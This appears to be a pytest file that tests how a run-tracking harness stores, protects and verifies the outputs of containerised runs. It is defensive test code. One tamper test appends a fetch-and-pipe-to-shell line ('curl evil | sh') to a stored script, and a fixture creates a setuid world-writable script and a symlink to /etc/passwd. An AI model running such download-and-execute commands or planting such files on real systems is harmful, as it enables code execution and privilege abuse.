"""A real run's outputs, against the real Docker engine: stored read-only whatever modes the container left, what a
record cannot hold set aside and named while the run keeps its status, and `harness verify` comparing
runs/<id>/outputs with the record."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.projects import commit_all, harness, valid_record

# Runs as the container's user (nobody, when harness runs as root) and leaves what the issue found: a world-
# writable directory, a setuid world-writable script, and beside good files what no record can hold.
WRITER = r"""
import os
out = os.environ["HARNESS_OUTPUTS"]
with open(f"{out}/good.txt", "w") as fh:
    fh.write("good\n")
os.mkdir(f"{out}/open")
os.chmod(f"{out}/open", 0o777)
with open(f"{out}/open/run.sh", "w") as fh:
    fh.write("#!/bin/sh\necho hi\n")
os.chmod(f"{out}/open/run.sh", 0o4777)
with open(f"{out}/" + "n" * 255, "w") as fh:
    fh.write("a name as long as ext4 allows\n")
os.symlink("/etc/passwd", f"{out}/passwd")
os.mkfifo(f"{out}/pipe")
with open(os.fsencode(out) + b"/latin1-\xe9.txt", "w") as fh:
    fh.write("caf\xe9\n")
print("run.sh mode", oct(os.stat(f"{out}/open/run.sh").st_mode), flush=True)
"""


@pytest.fixture()
def project(probe_project: Path) -> Path:
    (probe_project / "writer.py").write_text(WRITER)
    commit_all(probe_project, "an entry point that writes awkward outputs")
    return probe_project


def run_writer(project: Path) -> dict[str, Any]:
    result = harness(project, "run", "--", "python", "writer.py")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    [run_id] = os.listdir(project / ".harness" / "runs")
    record = json.loads((project / ".harness" / "runs" / run_id / "record.json").read_text())
    record["_stderr"] = result.stderr
    return record


def verify(project: Path, *args: str, code: int) -> dict[str, Any]:
    result = harness(project, "verify", *args, "--json")
    assert result.returncode == code, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    report: dict[str, Any] = json.loads(result.stdout)
    return report


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_a_run_with_outputs_no_record_can_hold_succeeds_records_the_rest_and_names_each_skipped_one(
    project: Path,
) -> None:
    record = run_writer(project)
    stderr = record.pop("_stderr")
    run_dir = project / ".harness" / "runs" / record["id"]
    assert "run.sh mode 0o104777" in (run_dir / "log.txt").read_text()  # the container really set those bits

    valid_record(record)
    assert record["status"] == "succeeded" and record["exit_code"] == 0 and "error" not in record
    outputs = record["outputs"]
    assert set(outputs["files"]) == {"good.txt", "open/run.sh", "n" * 255} and outputs["read_only"] is True
    reasons = {s["path"]: s["reason"] for s in outputs["skipped"]}
    assert set(reasons) == {"passwd", "pipe", "latin1-\\xe9.txt"}
    assert "'/etc/passwd', outside the outputs directory" in reasons["passwd"]
    assert "FIFO" in reasons["pipe"] and "not valid UTF-8" in reasons["latin1-\\xe9.txt"]
    assert "warning: 3 output(s) not recorded" in stderr and "pipe: it is a FIFO" in stderr
    assert "warning  3 output(s) not recorded" in stderr  # and again in the summary

    # Read-only whatever the container left, owned by harness's user, the setuid bit gone.
    out = run_dir / "outputs"
    owner = (os.geteuid(), os.getegid())
    assert mode(out) == mode(out / "open") == 0o755
    assert mode(out / "open" / "run.sh") == 0o555 and mode(out / "good.txt") == mode(out / ("n" * 255)) == 0o444
    for p in (out, out / "open", out / "open" / "run.sh"):
        assert (p.lstat().st_uid, p.lstat().st_gid) == owner
    sha = outputs["files"]["good.txt"]
    assert os.path.samefile(out / "good.txt", project / ".harness" / "objects" / sha[:2] / sha[2:])
    # Set aside, not deleted, and not left in the outputs directory.
    assert sorted(os.listdir(os.fsencode(run_dir / "skipped"))) == [b"latin1-\xe9.txt", b"passwd", b"pipe"]
    assert sorted(os.listdir(out)) == sorted(["good.txt", "open", "n" * 255])

    shown = harness(project, "show", record["id"])
    assert shown.returncode == 0, shown.stderr
    assert "skipped" in shown.stdout and "pipe: it is a FIFO" in shown.stdout
    assert "latin1-\\xe9.txt: its name is not valid UTF-8" in shown.stdout

    report = verify(project, "--run", record["id"], code=0)
    assert report["ok"] and report["output_dirs"] == 1 and report["outputs"] == []


def test_verify_names_an_output_modified_added_removed_or_made_writable_after_the_run(project: Path) -> None:
    record = run_writer(project)
    out = project / ".harness" / "runs" / record["id"] / "outputs"
    assert verify(project, code=0)["ok"]

    with open(out / "open" / "run.sh", "a") as fh:  # what another user did to the 0777 script before
        fh.write("curl evil | sh\n")
    (out / "planted.txt").write_text("not from the run\n")
    (out / "good.txt").unlink()
    os.chmod(out / "open", 0o777)

    report = verify(project, "--run", record["id"][:4], code=107)
    found = {(p["path"], p["problem"]) for p in report["outputs"]}
    assert found == {("open/run.sh", "modified"), ("planted.txt", "added"), ("good.txt", "missing"), ("open", "mode")}
    assert not report["ok"] and all(p["run"] == record["id"] for p in report["outputs"])
    assert report["problems"] == []  # the store objects themselves are intact

    text = harness(project, "verify")  # store-wide, as people read it
    assert text.returncode == 107
    assert f"OUTPUT MODIFIED: runs/{record['id']}/outputs/open/run.sh" in text.stdout
    assert f"OUTPUT ADDED: runs/{record['id']}/outputs/planted.txt" in text.stdout
    assert "4 file(s) in run outputs directories failed verification" in text.stderr


# Writes N small files (the one numbered CHANGE different) and, if BIG_MIB, one big file whose inode it prints: a
# bind mount shows the host's inode numbers.
MANY = r"""
import os, sys
out = os.environ["HARNESS_OUTPUTS"]
n, big_mib, change = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3] if len(sys.argv) > 3 else ""
os.makedirs(f"{out}/parts")
for i in range(n):
    with open(f"{out}/parts/f{i:05d}.txt", "w") as fh:
        fh.write(f"part {i}{' changed' if str(i) == change else ''}\n")
if big_mib:
    block = bytes(range(256)) * 4096
    with open(f"{out}/model.bin", "wb") as fh:
        for i in range(big_mib):
            fh.write(i.to_bytes(8, "little") + block[8:])
    print("model inode", os.stat(f"{out}/model.bin").st_ino, flush=True)
"""


@pytest.fixture()
def many(probe_project: Path) -> Path:
    (probe_project / "many.py").write_text(MANY)
    commit_all(probe_project, "an entry point that writes many outputs, or a big one")
    return probe_project


def run_many(project: Path, *args: str) -> dict[str, Any]:
    result = harness(project, "run", "--json", "--", "python", "many.py", *args)
    assert result.returncode == 0, result.stderr
    record: dict[str, Any] = valid_record(json.loads(result.stdout))
    return record


def test_a_big_output_becomes_its_store_object_and_damage_to_it_is_caught_by_verify(many: Path) -> None:
    record = run_many(many, "2", "64")
    run_dir = many / ".harness" / "runs" / record["id"]
    [line] = [x for x in (run_dir / "log.txt").read_text().splitlines() if x.startswith("model inode")]
    sha = record["outputs"]["files"]["model.bin"]
    obj = many / ".harness" / "objects" / sha[:2] / sha[2:]
    out = run_dir / "outputs" / "model.bin"
    # The inode the container wrote is the store object: collected without a second copy of its 64 MiB.
    assert obj.stat().st_ino == out.stat().st_ino == int(line.split()[-1]) and obj.stat().st_nlink == 2
    assert obj.stat().st_size == 64 << 20 and mode(out) == 0o444 and record["outputs"]["file_count"] == 3
    assert verify(many, "--run", record["id"], code=0)["ok"]

    with open(obj, "r+b") as fh:  # root may write a 0444 file; so may its owner after a chmod
        fh.seek(12345)
        fh.write(b"X")
    report = verify(many, "--run", record["id"], code=107)
    [problem] = report["problems"]
    assert problem["object"] == sha and problem["problem"] == "changed"
    assert f"output model.bin of run {record['id']}" in problem["used_by"]


def test_a_run_with_1500_outputs_keeps_1000_in_its_record_and_every_command_still_sees_all(many: Path) -> None:
    first = run_many(many, "1500", "0")
    outputs = first["outputs"]
    assert outputs["file_count"] == 1500 and len(outputs["files"]) == 1000
    assert sorted(outputs["files"]) == [f"parts/f{i:05d}.txt" for i in range(1000)]  # the first, by path
    run_dir = many / ".harness" / "runs" / first["id"]
    assert (run_dir / "record.json").stat().st_size < 200_000

    shown = harness(many, "show", first["id"])
    assert f"... and 500 more: `harness data show {outputs['manifest']}` lists every one" in shown.stdout
    assert "outputs  1500 files" in harness(many, "run", "--", "python", "many.py", "1500", "0", "1400").stderr
    listed = harness(many, "data", "show", outputs["manifest"])
    assert listed.returncode == 0 and "parts/f01499.txt" in listed.stdout

    # diff and rebuild compare all 1,500, not the 1,000 the record lists.
    [second_id] = [r for r in os.listdir(many / ".harness" / "runs") if r != first["id"]]
    diff = harness(many, "diff", first["id"], second_id, "--json")
    assert diff.returncode == 1, diff.stderr
    files = json.loads(diff.stdout)["outputs"]["files"]
    assert [(f["path"], f["status"]) for f in files] == [("parts/f01400.txt", "changed")]
    rebuilt = harness(many, "rebuild", first["id"], "--json")
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert json.loads(rebuilt.stdout)["outputs"]["same_files"] == 1500

    # verify re-hashes every output object, gc keeps every one, and a file changed past the first 1,000 is named.
    report = verify(many, "--run", first["id"], code=0)
    assert report["checked"] >= 1500 and report["outputs"] == []
    gc = harness(many, "gc")
    assert gc.returncode == 0, gc.stderr
    assert verify(many, code=0)["ok"]
    late = run_dir / "outputs" / "parts" / "f01300.txt"
    late.unlink()
    late.write_text("not from the run\n")
    late.chmod(0o444)
    report = verify(many, "--run", first["id"], code=107)
    assert [(p["path"], p["problem"]) for p in report["outputs"]] == [("parts/f01300.txt", "modified")]

    # push's closure and the PROV export name every output too.
    from harness.remote.closure import of_record
    from harness.storage.store import Store

    seal = json.loads((many / ".harness" / "seals" / first["id"]).read_text())["record"]
    closure = of_record(first, seal, Store(many / ".harness" / "objects"))
    assert len(closure.group("outputs")) == 1500
    exported = many.parent / "run.prov.json"
    done = harness(many, "export", first["id"], "--format", "prov", "-o", str(exported))
    assert done.returncode == 0, done.stderr
    generated = json.loads(exported.read_text())["wasGeneratedBy"]
    assert sum(1 for g in generated.values() if g["prov:entity"].startswith("output:")) == 1500
